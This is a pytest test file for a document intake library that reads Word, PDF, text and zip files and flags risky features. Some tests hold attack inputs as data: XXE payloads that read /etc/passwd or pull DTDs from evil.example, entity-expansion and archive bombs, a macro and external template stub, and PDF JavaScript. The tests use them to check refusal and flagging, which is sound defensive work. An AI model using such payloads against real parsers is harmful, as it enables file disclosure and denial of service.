"""PDF, Word, pictures, zip and plain text: what is in them, and what is told about them."""

import io
import zipfile
from pathlib import Path

import docx
import ole_file as ole
import pytest
from papers import jpeg, refusal, zipped
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from casefile.intake import sniff
from casefile.intake.child import ReadingChild
from casefile.intake.markup import xml
from casefile.intake.readers import pdf, plain_text, word
from casefile.intake.reading import ParagraphKind
from casefile.leaves import leaves
from casefile.model.errors import CannotRead

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx_of(body, **more):
    document = f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return zipped({"word/document.xml": document, **more}, compression=zipfile.ZIP_DEFLATED)


def test_a_word_file_reads_in_order_tables_too():
    document = docx.Document()
    document.add_paragraph("Umowa nr 5")
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text, table.cell(0, 1).text = "Cena", "4 500 zł"
    document.add_paragraph("חתימה")
    kept = io.BytesIO()
    document.save(kept)
    full = word.read(kept.getvalue(), "umowa.docx")

    assert [p.text for p in full.paragraphs] == ["Umowa nr 5", "Cena\t4 500 zł", "חתימה"]
    assert full.flags == ()
    assert not full.dated.known


def test_tracked_changes_and_comments_are_told_with_their_author():
    body = (
        "<w:p><w:r><w:t>Price </w:t></w:r>"
        '<w:del w:author="Dana"><w:r><w:delText>500</w:delText></w:r></w:del>'
        '<w:ins w:author="Yossi"><w:r><w:t>400</w:t></w:r></w:ins></w:p>'
    )
    comment = (
        f'<w:comments xmlns:w="{W}"><w:comment w:author="Dana">'
        "<w:p><w:r><w:t>why?</w:t></w:r></w:p></w:comment></w:comments>"
    )
    full = word.read(docx_of(body, **{"word/comments.xml": comment}), "draft.docx")

    assert [(p.kind.value, p.who, p.text) for p in full.paragraphs] == [
        ("inserted", "Yossi", "Price 400"),
        ("deleted", "Dana", "500"),
        ("comment", "Dana", "why?"),
    ]
    assert set(full.flags) == {"tracked_changes", "comments"}


def test_macros_and_calls_to_the_outside_are_flagged_and_a_link_is_not():
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}'
        "</Relationships>"
    )
    one = (
        '<Relationship Id="{0}" Type="http://x/{1}" '
        'Target="http://evil.example/" TargetMode="External"/>'
    )
    evil = docx_of(
        "<w:p/>",
        **{
            "word/vbaProject.bin": b"macro",
            "word/_rels/document.xml.rels": relations.format(
                one.format("a", "attachedTemplate") + one.format("b", "image")
            ),
        },
    )
    plain = docx_of(
        "<w:p/>",
        **{"word/_rels/document.xml.rels": relations.format(one.format("a", "hyperlink"))},
    )

    assert set(word.read(evil, "e.docx").flags) == {"macros", "external_links", "outside_template"}
    assert word.read(plain, "p.docx").flags == ()


def test_a_word_bomb_is_refused_before_it_is_unpacked():
    bomb = docx_of("<w:p/>" * 8_000_000)

    assert len(bomb) < 200_000
    assert refusal(word, bomb) == "archive_bomb"


@pytest.mark.parametrize(
    "payload",
    [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY % d SYSTEM "http://evil.example/p.dtd">%d;]><a/>',
        '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>',
        f'<!DOCTYPE a [<!ENTITY b "{"x" * 5000}">]><a>{"&b;" * 2000}</a>',
        '<!doctype a SYSTEM "http://evil.example/x.dtd"><a/>',
    ],
)
@pytest.mark.parametrize("coding", ["utf-8", "utf-16"])
def test_no_doctype_is_ever_parsed(payload, coding):
    data = f'<?xml version="1.0" encoding="{coding}"?>{payload}'.encode(coding)

    with pytest.raises(CannotRead) as refused:
        xml(data, "part.xml")
    assert refused.value.key == "has_doctype"


def test_very_deep_xml_is_refused():
    with pytest.raises(CannotRead):
        xml(b"<a>" * 100_000 + b"</a>" * 100_000)


def pdf_of(pages, *, signed=False, password="", script=""):
    out = PdfWriter()
    for _ in range(pages):
        out.add_blank_page(200, 200)
    if signed:
        field = DictionaryObject(
            {
                NameObject("/FT"): NameObject("/Sig"),
                NameObject("/T"): TextStringObject("s"),
                NameObject("/V"): DictionaryObject(),
            }
        )
        form = DictionaryObject({NameObject("/Fields"): ArrayObject([out._add_object(field)])})
        out._root_object[NameObject("/AcroForm")] = form
    if script:
        action = {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(script),
        }
        out._root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    out.add_attachment("factur-x.xml", b"<a/>") if signed else None
    out.add_metadata({"/CreationDate": "D:20200101000000", "/Title": "Scan"})
    if password:
        out.encrypt(password, algorithm="RC4-128")
    kept = io.BytesIO()
    out.write(kept)
    return kept.getvalue()


def test_a_scan_is_told_from_text_and_the_file_date_is_not_the_event():
    full = pdf.read(pdf_of(2), "scan.pdf")

    assert (full.pages, full.has_text, full.flags) == (2, False, ("scan",))
    assert not full.dated.known
    assert ("title", "Scan") in full.fields


def test_a_signed_pdf_is_flagged_and_its_files_come_along():
    full = pdf.read(pdf_of(1, signed=True), "signed.pdf")

    assert "digital_signature" in full.flags
    assert [(a.name, a.data) for a in full.attachments] == [("factur-x.xml", b"<a/>")]
    assert "active_content" in pdf.read(pdf_of(1, script="app.alert(1)"), "js.pdf").flags


def test_a_pdf_with_a_password_and_a_broken_one_are_told():
    assert refusal(pdf, pdf_of(1, password="secret")) == "file_encrypted"
    assert refusal(pdf, b"%PDF-1.7\nnothing") == "file_damaged"


def test_hebrew_in_a_pdf_reads_with_its_figures_in_their_places():
    place = Path(__file__).parents[2] / "sample_cases" / "haifa_catering" / "inbox"
    path = next(place.glob("דרישת תשלום*.pdf"), None)
    if path is None:
        pytest.skip("the Hebrew sample case is not in this checkout")
    full = pdf.read(path.read_bytes(), path.name)

    assert "14 ביוני 2026" in full.text
    assert 'לשלם סך של 31,860.00 ש"ח בתוך 14 ימים' in full.text


@pytest.mark.parametrize(
    ("head", "media_type"),
    [
        (b"ID3\x04\0", "audio/mpeg"),
        (b"OggS\0", "audio/ogg"),
        (b"\0\0\0\x18ftypM4A ", "audio/mp4"),
        (b"\0\0\0\x18ftypheic", "image/heic"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "application/x-ole-storage"),
    ],
)
def test_what_no_reader_reads_yet_is_named_all_the_same(head, media_type):
    assert sniff.media_type_of("call", head + bytes(100)) == media_type


@pytest.mark.parametrize("coding", ["utf-8", "utf-8-sig", "utf-16", "cp1255"])
def test_hebrew_notes_are_read_in_any_letters(coding):
    text = "חוזה מיום 3.2.2026\n\nסכום 5,000"
    full = plain_text.read(text.encode(coding), "note.txt")

    assert [p.text for p in full.paragraphs] == text.split("\n\n")


@pytest.mark.parametrize("coding", ["utf-8", "utf-16-le", "cp1250", "iso-8859-2"])
def test_polish_notes_are_read_in_any_letters(coding):
    text = "Żółta łódź, zażółć gęślą jaźń. Zapłacę śpiesznie."

    assert plain_text.read(text.encode(coding), "n.txt").own_text == text


SAMPLES = {
    "a.eml": b"From: a@b.c\nSubject: x\n\nhi",
    "b.pdf": pdf_of(1),
    "c.docx": docx_of("<w:p/>"),
    "d.txt": b"just words",
    "e.txt": b"[1.2.2026, 10:00:00] Dana: hi",
    "f.zip": zipped({"a.txt": b"a"}),
    "g.zip": zipped({"_chat.txt": b"[1.2.2026, 10:00:00] Dana: hi"}),
    "h.jpg": jpeg(),
    "i.html": b"<!DOCTYPE html><p>hi</p>",
    "j.bin": bytes(range(256)) * 10,
}


@pytest.mark.parametrize("name", SAMPLES)
def test_no_two_readers_claim_the_same_file_and_the_suffix_does_not_matter(name):
    readers, data = leaves("casefile.intake.readers"), SAMPLES[name]
    claimed = {
        suffix: [
            key
            for key, reader in readers.items()
            if reader.claims(sniff.media_type_of(f"x{suffix}" if suffix else name, data))
        ]
        for suffix in ("", ".pdf", ".jpg")
    }

    assert all(len(keys) <= 1 for keys in claimed.values())
    if name != "a.eml":  # four lines of heads are a mail only where the name says so
        assert len({tuple(keys) for keys in claimed.values()}) == 1
    assert bool(claimed[""]) == (name != "j.bin")


def test_no_reader_claims_what_nobody_knows():
    for reader in leaves("casefile.intake.readers").values():
        assert not reader.claims("application/x-nothing")


def test_the_kinds_of_paragraph_have_words_when_they_need_them():
    assert {kind.value for kind in ParagraphKind} >= {"own", "quoted", "system"}


STRICT = "http://purl.oclc.org/ooxml"


def test_a_strict_word_file_is_read_and_its_signature_said_to_be_unchecked():
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as box:
        box.writestr(
            "_rels/.rels",
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="r1" Type="{STRICT}/officeDocument/relationships/officeDocument"'
            ' Target="word/document.xml"/></Relationships>',
        )
        box.writestr(
            "word/document.xml",
            f'<w:document xmlns:w="{STRICT}/wordprocessingml/main"><w:body><w:p><w:r>'
            "<w:t>Agreed: 500 pounds</w:t></w:r></w:p></w:body></w:document>",
        )
        box.writestr("_xmlsignatures/sig1.xml", "<Signature/>")
    with ReadingChild() as child:
        full = child.read(kept.getvalue(), "agreement.docx")
    assert full.text == "Agreed: 500 pounds"
    assert {"digital_signature", "signature_not_checked"} <= set(full.flags)
    assert "signature_intact" not in full.flags


@pytest.mark.parametrize(
    ("part", "trouble", "about"),
    [
        ("EncryptedPackage", "file_encrypted", "contract.docx"),
        ("WordDocument", "no_reader", "application/msword"),
        ("Workbook", "no_reader", "application/x-ole-storage"),
    ],
)
def test_a_locked_and_an_old_word_file_are_refused_with_one_line(part, trouble, about):
    with ReadingChild() as child:
        full = child.read(ole.compound_file({part: b"x" * 5000}), "contract.docx")
    assert (full.trouble, full.about) == (trouble, about)
